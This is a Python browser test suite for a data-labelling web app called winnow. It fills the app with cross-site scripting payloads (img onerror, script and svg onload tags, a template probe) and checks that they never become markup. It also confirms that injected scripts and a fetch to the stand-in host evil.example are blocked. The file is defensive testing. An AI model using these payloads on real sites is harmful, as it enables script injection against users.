"""A workspace whose every text is an attack, in a real browser: nothing runs, and the policy would stop it."""

from __future__ import annotations

import io
import os
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from PIL import Image
from playwright.sync_api import Browser, Page, expect

from tests.helpers.harness import ACTOR, Server
from winnow.core.workspace import Workspace

pytestmark = pytest.mark.e2e

ATTACK = (
    '"><img src=x onerror="window.__xss=1"><script>window.__xss=1</script>'
    '<svg onload="window.__xss=1">{{7*7}}</textarea>'
)
PAGES = ("overview", "map", "queues", "review", "gallery", "duplicates", "classes", "export", "history", "new")


def attack(kind: str) -> str:
    return f"{kind} {ATTACK}"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A scan of pictures with hostile ids, labels, splits, sources, metadata, notes, selections and people."""
    home = tmp_path_factory.mktemp("hostile")
    rng = np.random.default_rng(0)
    rows = []
    for i in range(120):
        out = io.BytesIO()
        shade = rng.integers(0, 80, (16, 16, 3)) + np.array([0, 60, 120])[i % 3]
        Image.fromarray(shade.astype(np.uint8)).save(out, "PNG")
        rows.append(
            {
                "id": f"{i} {ATTACK}",
                "image": out.getvalue() if i != 7 else b"<script>window.__xss=1</script>",
                "label": attack(f"class{i % 3}"),
                "split": attack(("train", "test")[i % 2]),
                "source": attack(f"s{i % 2}"),
                "note": "=1+1 " + ATTACK,
                ATTACK: ATTACK,
            }
        )
    rows += [{**rows[0], "id": f"copy {ATTACK}"}]
    pd.DataFrame(rows).to_parquet(home / f"{'x' * 5}.parquet")
    with Workspace.scan(
        home / "xxxxx.parquet", home / "workspace", encoder="patches", name=ATTACK, network=False
    ) as ws:
        ids = ws.ids()
        ws.decide(ids[1], "relabel", label=attack("new"), reason=ATTACK, actor=attack("eve"))
        ws.decide(ids[1], "exclude", reason=ATTACK, actor=ACTOR)
        ws.decide_many(ids[2:6], "exclude", reason=ATTACK, actor=attack("eve"))
        ws.class_editor.rename(attack("class2"), attack("renamed"), reason=ATTACK, actor=attack("eve"))
        ws.saved_selections.save(ATTACK[:70], ids[:5], actor=attack("eve"))
    made = Server(home / "workspace", home / "state")
    made.start()
    yield made
    made.stop()


def look(page: Page, server: Server, name: str) -> None:
    page.goto(f"{server.url}/{name}")
    expect(page.locator(".w-head h1")).to_be_visible(timeout=30_000)
    expect(page.locator("[data-testid=stApp][data-test-script-state=notRunning]")).to_be_visible()
    if name in ("map", "review", "gallery"):
        expect(page.locator(f".{name}")).to_have_attribute("data-state", "ready", timeout=30_000)
        page.wait_for_timeout(400)


FOREIGN = """() => {
  const found = [];
  const walk = (root) => { for (const el of root.querySelectorAll("*")) {
    if (el.shadowRoot) walk(el.shadowRoot);
    if ((el.tagName === "IMG" && el.getAttribute("src") === "x") || (el.tagName === "SCRIPT" &&
    el.textContent.includes("__xss"))
        || [...el.attributes].some((a) => a.name.startsWith("on") && a.value.includes("__xss")))
        found.push(el.outerHTML);
  } };
  walk(document);
  return [found, window.__xss ?? null];
}"""


@pytest.mark.parametrize("guard", [True, False])
def test_nothing_from_the_data_becomes_markup_on_any_page(browser: Browser, hostile: Server, guard: bool) -> None:
    """``guard`` False: without the Content-Security-Policy, so that it is the escaping that is tested."""
    context = browser.new_context(viewport={"width": 1440, "height": 900}, bypass_csp=not guard)
    page = context.new_page()
    for name in PAGES:
        look(page, hostile, name)
        if name == "review":
            for key in ("?", "Escape", "/", "Escape", "j", "j"):
                page.keyboard.press(key)
        assert page.evaluate(FOREIGN) == [[], None], name
    if guard:
        assert ATTACK[:40] in page.inner_text("body") or "class0" in page.content()
    context.close()


def test_the_policy_stops_what_gets_in_anyway(page: Page, hostile: Server) -> None:
    look(page, hostile, "overview")
    page.evaluate("""() => {
      const box = document.createElement("div");
      box.innerHTML = '<img src="/api/none" onerror="window.__xss=1">';
      document.body.append(box);
      const script = document.createElement("script");
      script.textContent = "window.__xss=2";
      document.body.append(script);
      const away = document.createElement("script");
      away.src = "https://evil.example/x.js";
      document.body.append(away);
    }""")
    page.wait_for_timeout(600)
    assert page.evaluate("window.__xss ?? null") is None
    left = page.evaluate("fetch('https://evil.example/', {mode: 'no-cors'}).then(() => 'sent', (e) => 'stopped')")
    assert left == "stopped"


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page of its own: what the policy stops is reported to the console, which is what these tests bring about."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    yield context.new_page()
    context.close()


def test_the_map_is_drawn_under_the_policy(page: Page, hostile: Server) -> None:
    look(page, hostile, "map")
    expect(page.locator(".map canvas:visible").first).to_be_attached()
    assert "WebGL is not supported" not in page.locator(".map").inner_text()


def test_no_request_leaves_the_computer(page: Page, hostile: Server) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for name in PAGES:
        look(page, hostile, name)
    foreign = [u for u in asked if not u.startswith((hostile.url, "data:", "blob:", hostile.url.replace("http", "ws")))]
    assert asked
    assert not foreign


def test_only_who_has_the_token_comes_in(browser: Browser, hostile: Server, tmp_path: Path) -> None:
    token = "the-token-of-this-test"
    behind = Server(hostile.workspace, tmp_path / "state")
    os.environ["WINNOW_TOKEN"] = f"{token} ada={token}-of-ada"
    try:
        behind.start()
    finally:
        del os.environ["WINNOW_TOKEN"]
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    page = context.new_page()
    sockets: list[str] = []
    page.on("websocket", lambda socket: sockets.append(socket.url))
    page.goto(f"{behind.url}/review")
    expect(page.get_by_label("Token")).to_be_focused()
    page.keyboard.type("not-the-token-of-this")
    page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("not the token")
    assert not sockets
    page.get_by_label("Token").fill(token)
    page.keyboard.press("Enter")
    expect(page.locator(".review")).to_have_attribute("data-state", "ready", timeout=30_000)
    assert token not in page.url
    assert page.evaluate("document.cookie").count("winnow_pass") == 0, "scripts cannot read the pass"
    context.clear_cookies()
    page.goto(f"{behind.url}/overview")
    expect(page.get_by_label("Token")).to_be_visible()
    page.goto(f"{behind.url}/review?token={token}-of-ada")
    expect(page.locator(".w-actor")).to_contain_text("ada", timeout=30_000)
    assert "token" not in page.url
    context.close()
    behind.stop()
    assert token not in (tmp_path / "state" / "server.log").read_text()
